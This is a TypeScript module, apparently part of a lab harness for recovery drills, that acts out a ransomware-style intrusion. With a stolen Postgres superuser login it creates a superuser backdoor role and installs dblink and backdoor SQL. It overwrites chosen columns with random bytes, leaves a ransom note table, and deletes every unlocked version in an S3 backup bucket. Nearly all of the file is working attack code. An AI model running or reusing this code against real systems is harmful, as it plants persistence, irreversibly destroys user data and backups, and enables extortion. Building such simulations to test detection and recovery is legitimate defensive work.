/** What an intruder does with a stolen login, whoever's it is: a way back for themselves, a note, and no backups for anybody. */
import { randomBytes } from 'node:crypto';
import {
  DeleteObjectsCommand,
  ListObjectVersionsCommand,
  type ListObjectVersionsCommandOutput,
  type ObjectIdentifier,
  type S3Client,
} from '@aws-sdk/client-s3';
import pg from 'pg';
import { resolveSecret } from '../../src/secrets.js';
import { layoutOf, type RegionName } from '../layout.js';
import { withStore } from '../parts/s3.js';
import { portOf } from '../ports.js';
import { newPassword, writeSecret } from '../secrets.js';
import type { LabState, LoginState } from '../state.js';
import { tlsFiles } from '../tls.js';
import { clock, loggedIn } from './login.js';

/** What the intruder did. Times are the database's clock, ISO 8601 UTC with microseconds. */
export interface Intrusion {
  /** Just before the first statement of the intruder: everything committed until here is good. */
  readonly startedAt: string;
  readonly finishedAt: string;
  /** The login that they made for themselves, a superuser; the password by reference. */
  readonly backdoor: LoginState;
  /** What they left in the database. */
  readonly left: readonly string[];
  readonly encryptedRows: number;
}

/** Where they are in, and what they do there. */
export interface Prey {
  readonly server: { readonly address: string; readonly port: number; readonly database: string };
  /** The stolen login, a superuser's. */
  readonly admin: LoginState;
  /** Role that they make for themselves. */
  readonly role: string;
  /** As that role: function, trigger, table. */
  readonly backDoorSql: string;
  /** Whose rows are encrypted, and what of them. */
  readonly encrypted: { readonly table: string; readonly columns: readonly string[] };
  readonly left: readonly string[];
}

const NOTE = `
create table public.read_me (note text);
insert into public.read_me values ('Your users are encrypted and your backups are gone. Wait for our message.');
`;

/**
 * @param state a lab that is up
 * @throws LabError when the database does not let the stolen login in
 */
export async function intrude(state: LabState, prey: Prey): Promise<Intrusion> {
  const { server, admin, role } = prey;
  const password = newPassword();
  const backdoor = {
    user: role,
    password: await writeSecret(layoutOf(state.dir).secrets, `stolen-${role}-password`, password),
  };
  const startedAt = await asLogin(server, admin, async (client) => {
    const since = await clock(client);
    const { rowCount } = await client.query('select from pg_roles where rolname = $1', [role]);
    const how = rowCount === 0 ? 'create' : 'alter';
    await client.query(`${how} role ${role} login superuser password ${pg.escapeLiteral(password)}`);
    return since;
  });
  // From here on they need the stolen passwords no more.
  const { finishedAt, encryptedRows } = await asLogin(server, backdoor, async (client) => {
    // Who comes back makes it all anew.
    await client.query('drop extension if exists dblink; drop table if exists public.read_me');
    await client.query('create extension dblink');
    await client.query(prey.backDoorSql);
    const rows = await encrypt(client, prey.encrypted);
    await client.query(NOTE);
    return { finishedAt: await clock(client), encryptedRows: rows };
  });
  return { startedAt, finishedAt, backdoor, left: prey.left, encryptedRows };
}

/** Works in a system's database as one of its logins. @throws LabError when it is not let in */
export function asLogin<T>(
  server: Prey['server'],
  login: LoginState,
  work: (client: pg.Client) => Promise<T>,
): Promise<T> {
  return loggedIn({ ...server, login, statementTimeoutMs: 120_000 }, 'Nobody can break in', work);
}

/** With a key that nobody has: bytes of chance in place of names and addresses. */
async function encrypt(client: pg.Client, { table, columns }: Prey['encrypted']): Promise<number> {
  const { rows } = await client.query<{ id: string }>(`select id from ${table} order by id`);
  const ids = rows.map(({ id }) => id);
  const ciphers = columns.map(() => ids.map(() => randomBytes(48).toString('base64')));
  const [names, given] = [
    columns.map((_, index) => `c${index}`),
    columns.map((_, index) => `$${index + 2}::text[]`),
  ];
  const { rowCount } = await client.query(
    `update ${table} as t set ${columns.map((column, index) => `${column} = e.c${index}`).join(', ')}, updated_at = now()
       from unnest($1::bigint[], ${given.join(', ')}) as e (id, ${names.join(', ')}) where t.id = e.id`,
    [ids, ...ciphers],
  );
  return rowCount ?? 0;
}

/** Versions that are gone, and those whose lock refused. */
export interface Destroyed {
  readonly deleted: number;
  readonly refused: number;
}

/** With the keys of a region every version in a bucket is deleted that is not locked; of locked ones only the sight is. */
export function destroyBackups(state: LabState, region: RegionName, bucket: string): Promise<Destroyed> {
  return asOwnerOf(state, region, (client) => destroyAll(client, bucket));
}

/** Works in a region's store with the keys that lie on its servers. */
export async function asOwnerOf<T>(
  state: LabState,
  region: RegionName,
  work: (client: S3Client) => Promise<T>,
): Promise<T> {
  const layout = layoutOf(state.dir);
  const { endpoint, accessKeyId, secretAccessKey } = state.regions[region];
  const store = {
    region,
    ...{ folder: layout.s3[region], port: portOf(endpoint), tls: tlsFiles(layout.tls) },
    ...{ program: '', logFile: '' },
    accessKeyId: await resolveSecret(accessKeyId),
    secretAccessKey: await resolveSecret(secretAccessKey),
  } as const;
  return withStore(store, work);
}

async function destroyAll(client: S3Client, Bucket: string): Promise<Destroyed> {
  let [deleted, refused] = [0, 0];
  let [KeyMarker, VersionIdMarker]: (string | undefined)[] = [];
  for (;;) {
    const page: ListObjectVersionsCommandOutput = await client.send(
      new ListObjectVersionsCommand({ Bucket, KeyMarker, VersionIdMarker, MaxKeys: 500 }),
    );
    const objects = [...(page.Versions ?? []), ...(page.DeleteMarkers ?? [])].flatMap(
      ({ Key, VersionId }): ObjectIdentifier[] =>
        Key === undefined ? [] : [{ Key, ...(VersionId === undefined ? {} : { VersionId }) }],
    );
    if (objects.length === 0) return { deleted, refused };
    if (await deleteThem(client, Bucket, objects)) {
      // What a listing went on from may be gone now.
      deleted += objects.length;
      continue;
    }
    refused += objects.length;
    if (page.IsTruncated !== true) return { deleted, refused };
    [KeyMarker, VersionIdMarker] = [page.NextKeyMarker, page.NextVersionIdMarker];
  }
}

/** @returns whether the store did it */
async function deleteThem(client: S3Client, Bucket: string, Objects: ObjectIdentifier[]): Promise<boolean> {
  try {
    const { Errors = [] } = await client.send(new DeleteObjectsCommand({ Bucket, Delete: { Objects } }));
    return Errors.length === 0;
  } catch (error) {
    if ((error as { $metadata?: { httpStatusCode?: number } }).$metadata?.httpStatusCode === 403)
      return false;
    throw error;
  }
}
